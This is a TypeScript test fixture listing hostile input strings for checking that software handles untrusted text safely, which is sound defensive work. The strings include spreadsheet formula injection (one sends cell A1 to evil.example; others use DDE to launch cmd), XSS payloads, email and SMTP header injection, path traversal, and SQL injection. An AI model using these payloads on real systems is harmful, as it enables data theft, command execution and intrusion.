/** Texts that people could type, or have themselves named, to make a program at the far end do something. */
const formulas = [
  '=HYPERLINK("http://evil.example?x="&A1,"An Phát")',
  "=1+1",
  "=cmd|'/C calc'!A0",
  "+84 90 123 4567",
  "+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＋1",
  "－1+1",
  "＠SUM(1)",
] as const;

const markup = [
  "<!channel>",
  "<!here|here>",
  "<!everyone>",
  "<@U012AB3CD>",
  "<#C012AB3CD>",
  "<https://evil.example|An Phát>",
  "@channel @everyone @here @all",
  '<at id=all></at><at user_id="all">Mọi người</at>',
  "[An Phát](https://evil.example) ![x](https://evil.example/x.png)",
  "*đậm* _nghiêng_ ~gạch~ `mã` ```khối```",
  '<b>đậm</b><a href="tg://user?id=1">An Phát</a><tg-spoiler>x</tg-spoiler>',
  "&lt;!channel&gt; &amp; &#60;script&#62;",
  `"><img src=x onerror=alert(1)><script>alert(1)</script>`,
  "</style></title><svg onload=alert(1)>",
  "javascript:alert(1)",
  "{{customer}} $(env) %s %d {0}",
] as const;

const breaks = [
  "An Phát\r\nBcc: everybody@evil.example",
  "An Phát\nSubject: Khác\n\nThân bài khác",
  "An Phát\rX-Evil: 1",
  "An Phát\u2028X-Evil: 1\u2029X-Evil: 2",
  "An Phát\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:PROCEDURE",
  "An Phát\r\n.\r\nMAIL FROM:<evil@evil.example>",
  "An Phát;LANGUAGE=en:khác,nữa\\n",
  "An Phát\u001B[2J\u001B]0;khác\u0007",
] as const;

const letters = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "\u202Egnp.exe\u202C An Phát",
  "An\u200B\u200C\u200D\u2060\uFEFF Phát",
  "\u2066An\u2069 Phát",
  `A${"\u0323\u0302\u0301".repeat(300)}n Phát`,
  "Аn Рhát",
  "ﷺ".repeat(50),
  "👨‍👩‍👧‍👦".repeat(40),
  "🇻🇳 An Phát 🇻🇳",
  "../../etc/passwd",
  "..\\..\\windows\\system32\\cmd.exe",
  "CON.xlsx",
  "null",
  "undefined",
  "NaN",
  "-0",
  "1e309",
  "'; DROP TABLE sale; --",
  "An Phát' OR '1'='1",
  "x".repeat(3_000),
] as const;

export const nasty: readonly string[] = [...formulas, ...markup, ...breaks, ...letters];

/** As a test names it. */
export function shown(text: string): string {
  const line = JSON.stringify(text);
  return line.length > 60 ? `${line.slice(0, 59)}…` : line;
}
